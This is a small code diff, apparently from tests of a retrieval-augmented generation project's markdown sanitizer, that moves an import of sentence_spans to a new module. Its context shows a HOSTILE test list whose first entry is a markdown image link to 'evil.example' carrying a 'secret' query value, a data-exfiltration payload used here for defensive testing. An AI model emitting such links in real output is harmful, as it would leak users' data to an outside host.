@@ -14,7 +14,8 @@ from rag.markdown import (
     replace_images,
     safe_markdown,
 )
-from rag.support import claims_for, sentence_spans, supporting_span
+from rag.support import claims_for, supporting_span
+from rag.text import sentence_spans
 
 HOSTILE = [
     "![x](http://evil.example/p.png?q=secret)",
